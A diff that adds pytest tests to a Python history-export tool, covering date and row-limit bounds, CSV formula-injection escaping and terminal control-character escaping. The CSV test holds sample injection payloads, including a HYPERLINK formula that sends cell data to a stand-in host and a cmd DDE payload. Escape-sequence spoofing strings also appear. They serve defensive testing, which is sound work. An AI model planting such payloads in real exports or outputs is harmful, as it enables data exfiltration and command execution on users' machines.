@@ -108,6 +108,38 @@ def test_a_bad_since_says_what_is_accepted(text: str, message: str) -> None:
 
 
 @pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        (
+            "10000000d",
+            "'10000000d' reaches back before 1970-01-01: give a duration of at most 20784d or a date",
+        ),
+        (f"{20_784 * 24 + 13}h", "reaches back before 1970-01-01"),
+        ("99999999999999999999d", "reaches back before 1970-01-01"),
+        ("1969-12-31T23:59:59", "reaches back before 1970-01-01"),
+        ("0001-01-01", "reaches back before 1970-01-01"),
+        ("0001-01-01T00:00+01:00", "reaches back before 1970-01-01"),  # before year 1 in UTC
+        ("9999-12-31T23:59:59-14:00", "is after 9999-12-31: give a date up to 9999-12-31"),
+    ],
+)
+def test_a_since_outside_what_a_datetime_holds_is_refused(text: str, message: str) -> None:
+    with pytest.raises(ValueError, match=re.escape(message)):
+        parse_since(text, NOW)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("1970-01-01", 0.0),
+        ("20784d", NOW - 20_784 * 86_400),
+        ("9999-12-31T23:59:59", datetime(9999, 12, 31, 23, 59, 59, tzinfo=UTC).timestamp()),
+    ],
+)
+def test_a_since_at_the_edges_is_accepted(text: str, expected: float) -> None:
+    assert parse_since(text, NOW) == expected
+
+
+@pytest.mark.parametrize(
     ("text", "expected"),
     [
         ("onboard", {Action.ONBOARD}),
@@ -154,16 +186,26 @@ def test_repeated_flags_merge_and_an_absent_flag_filters_nothing() -> None:
     assert merge_choices(None) is None
 
 
-@pytest.mark.parametrize(("text", "expected"), [("0", 0), ("25", 25), (" 3 ", 3)])
+@pytest.mark.parametrize(
+    ("text", "expected"), [("0", 0), ("25", 25), (" 3 ", 3), ("1000000000", 1_000_000_000)]
+)
 def test_limit_is_a_whole_number(text: str, expected: int) -> None:
     assert parse_limit(text) == expected
 
 
 @pytest.mark.parametrize(
-    ("text", "message"), [("-1", "negative"), ("ten", "not a whole number"), ("", "not")]
+    ("text", "message"),
+    [
+        ("-1", "negative"),
+        ("ten", "not a whole number"),
+        ("", "not"),
+        ("1000000001", "'1000000001' is above the maximum of 1,000,000,000 rows (0: no limit)"),
+        ("99999999999999999999", "above the maximum of 1,000,000,000 rows"),  # over SQLite's 64-bit LIMIT
+        ("9" * 5_000, "above the maximum"),  # more digits than int() reads
+    ],
 )
 def test_a_bad_limit_is_refused(text: str, message: str) -> None:
-    with pytest.raises(ValueError, match=message):
+    with pytest.raises(ValueError, match=re.escape(message)):
         parse_limit(text)
 
 
@@ -205,6 +247,11 @@ def test_a_user_is_looked_up_as_given_and_a_spaced_number_also_compact(
         (["--outcome", "gone"], "argument --outcome: unknown outcome 'gone' (choose from pending, ok,"),
         (["--since", "last week"], "argument --since: 'last week' is not a duration"),
         (["--limit", "-5"], "argument --limit: '-5' is negative"),
+        (["--since", "10000000d"], "argument --since: '10000000d' reaches back before 1970-01-01"),
+        (
+            ["--limit", "99999999999999999999"],
+            "argument --limit: '99999999999999999999' is above the maximum",
+        ),
         (["--format", "xml"], "argument --format: invalid choice: 'xml'"),
     ],
 )
@@ -366,6 +413,51 @@ def test_csv_has_a_header_crlf_lines_and_the_full_error_text() -> None:
     empty = io.StringIO()
     assert write_csv(iter([]), empty) == 0
     assert empty.getvalue() == ",".join(COLUMNS) + "\r\n"
+
+
+@pytest.mark.parametrize(
+    ("upn", "cell"),
+    [
+        (
+            '=HYPERLINK("https://evil.example/?"&A1,"x")@contoso.com',
+            """'=HYPERLINK("https://evil.example/?"&A1,"x")@contoso.com""",
+        ),
+        ("+cmd|' /C calc'!A0@contoso.com", "'+cmd|' /C calc'!A0@contoso.com"),
+        ("-1+1@contoso.com", "'-1+1@contoso.com"),
+        ("@SUM(A1)@contoso.com", "'@SUM(A1)@contoso.com"),
+        ("\t=1@contoso.com", "'\t=1@contoso.com"),
+        ("\r=1@contoso.com", "'\r=1@contoso.com"),
+        ("ada@contoso.com", "ada@contoso.com"),
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote(upn: str, cell: str) -> None:
+    row = history_row(
+        entry(Action.ONBOARD, AgentFields(TENANT, "+14155550100", upn, None), None, error="-1 ok")
+    )
+    out = io.StringIO()
+    write_csv([row], out)
+    [record] = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    assert record["upn"] == cell
+    assert record["phone_number"] == "+14155550100"  # a plain E.164 number stays as it is
+    assert record["error"] == "'-1 ok"
+    assert json.loads(json.dumps(row))["upn"] == upn  # JSON stays exact
+
+
+def test_the_table_shows_control_characters_from_remote_data_as_escapes() -> None:
+    upn = "\x1b[31mevil\x1b[0m@contoso.com"
+    row = history_row(
+        entry(
+            Action.ONBOARD,
+            AgentFields(TENANT, "+14155550100", upn, None),
+            None,
+            error="refused \x1b]0;pwned\x07 \u202eexe.png",
+        )
+    )
+    lines = list(table_lines([row]))
+    text = "\n".join(lines)
+    assert not {"\x1b", "\x07", "\u202e"} & set(text)
+    assert "  \\x1b[31mevil\\x1b[0m@contoso.com  " in lines[1]
+    assert "refused \\x1b]0;pwned\\x07 \\u202eexe.png" in lines[1]
 
 
 def test_the_table_is_aligned_with_a_cut_one_line_error() -> None:
